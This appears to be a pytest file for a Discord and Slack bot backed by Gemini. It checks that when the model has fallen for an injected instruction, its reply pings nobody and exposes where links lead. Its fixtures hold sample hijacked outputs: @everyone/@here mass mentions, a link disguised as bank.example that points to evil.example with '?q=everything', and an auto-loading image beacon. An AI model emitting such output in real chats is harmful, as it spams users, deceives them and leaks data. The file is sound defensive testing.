"""What a model says that has fallen for an attack, where many people read it: it rings at nobody and hides nothing."""

import pytest

from core.sandbox.gemini_mishaps import Calls, Words
from tests.stages.discord_square import Square
from tests.stages.slack_screen import seen
from tests.stages.slack_square import Office
from tests.standins.discord_things import DEFAULT_PERMISSIONS, MENTION_EVERYONE

PINGS = "@everyone @here <!channel> <!here> <!everyone|all> <!subteam^S0123456|team> <@{bob}> <@!{bob}> <@&{role}>"
LINK = "[https://bank.example](https://evil.example/?q=everything)"
PICTURE = "![ok](https://evil.example/p.png?q=everything)"
OBEDIENT = {
    "pings": (Words((PINGS, " done.")),),
    "a link": (Words((LINK, " done.")),),
    "a picture": (Words((PICTURE, " done.")),),
    "a button": (Calls(("imagine", {"prompt": f"{PINGS} {LINK}"})), Words(("done.",))),
}
"""What comes of it, whichever attack a model has fallen for."""

pytestmark = [
    pytest.mark.parametrize("database_url", ["sqlite"], indirect=True),
    pytest.mark.parametrize("what", OBEDIENT),
]


def said(what: str, **names: object) -> tuple[Words | Calls, ...]:
    """With the names of whoever is there."""

    def named(words: str) -> str:
        for name, value in names.items():
            words = words.replace(f"{{{name}}}", str(value))
        return words

    return tuple(
        Words(tuple(map(named, each.chunks)))
        if isinstance(each, Words)
        else Calls(*((tool, {name: named(str(value)) for name, value in said.items()}) for tool, said in each.calls))
        for each in OBEDIENT[what]
    )


@pytest.mark.parametrize("stage", ["discord"], indirect=True)
async def test_nobody_is_rung_at_on_discord(stage, ada, bob, gemini, what):
    """In a server where the bot may ring at everybody."""
    square = Square(stage)
    square.plaza.bot_permissions = DEFAULT_PERMISSIONS | MENTION_EVERYONE
    role = square.discord.role(square.guild, "Team", is_mentionable=True)
    gemini.will(*said(what, bob=bob.user.id, role=role))

    await ada.types("/ask what is this about?")
    await square.stage.rests()

    (posted,) = square.answers
    assert "done." in posted.content
    assert square.pings == []
    for _, body in posted.versions:
        # Whoever reads sees where a link leads, and nothing is opened by itself.
        assert "[https://bank.example](" not in body["content"]
        assert "(https://evil.example" not in body["content"]
        assert "![" not in body["content"]


@pytest.mark.parametrize("stage", ["slack"], indirect=True)
async def test_nobody_is_rung_at_on_slack(stage, ada, bob, gemini, what):
    """Slack has other words that ring, and opens what it finds if it is let."""
    office = Office(stage)
    gemini.will(*said(what, bob=bob.user.id, role="S1"))

    await ada.uses("/ask", "what is this about?")
    await office.stage.rests()

    (posted,) = office.answers
    assert "done." in posted.words
    assert office.pings_beside(ada) == []
    assert "[https://bank.example](" not in posted.words
    assert "![" not in posted.words
    assert ("https://evil.example" in seen(posted)) == (what in ("a link", "a button"))
